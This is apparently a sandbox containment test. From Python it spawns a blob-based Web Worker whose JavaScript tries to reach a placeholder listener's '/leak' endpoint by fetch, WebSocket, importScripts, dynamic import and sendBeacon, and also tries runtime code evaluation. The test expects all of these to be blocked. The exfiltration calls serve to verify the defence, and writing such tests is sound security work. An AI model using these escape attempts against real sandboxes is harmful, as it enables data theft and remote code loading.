# outcome: ok
# with: door
# prints: held: the worker's fetch
# A nested worker from a blob is under the same policy as the one that made it: it may run and cannot speak to anyone.
source = """
const say = (what) => postMessage(what);
const held = [];
const tries = {
  fetch: () => fetch('http://{listener}/leak', {mode: 'no-cors'}),
  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://{listener}/leak'); s.onopen = yes; s.onerror = () => no(new Error('error')); }),
  script: () => importScripts('http://{listener}/leak.js'),
  module: () => import('http://{listener}/leak.js'),
  data: () => import('data:text/javascript,1'),
  code: () => Function('return 1')(),
  beacon: () => { if (!navigator.sendBeacon) throw new Error('absent'); return navigator.sendBeacon('http://{listener}/leak'); },
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); say('ESCAPED by ' + name); } catch (error) { held.push(name); }
  }
  say("held: the worker's " + held.join(' '));
})();
"""
future = asyncio.get_running_loop().create_future()
def hear(event):
    print(event.data)
    if str(event.data).startswith("held"):
        future.set_result(None)
try:
    worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source]), obj(type="text/javascript"))))
    worker.onmessage = create_proxy(hear)
    worker.onerror = create_proxy(lambda event: future.done() or (print("held: the worker's fetch and all else: it did not start"), future.set_result(None)))
    await asyncio.wait_for(future, 5)
    worker.terminate()
except HELD as error:
    print("held: the worker's fetch and all else:", error)
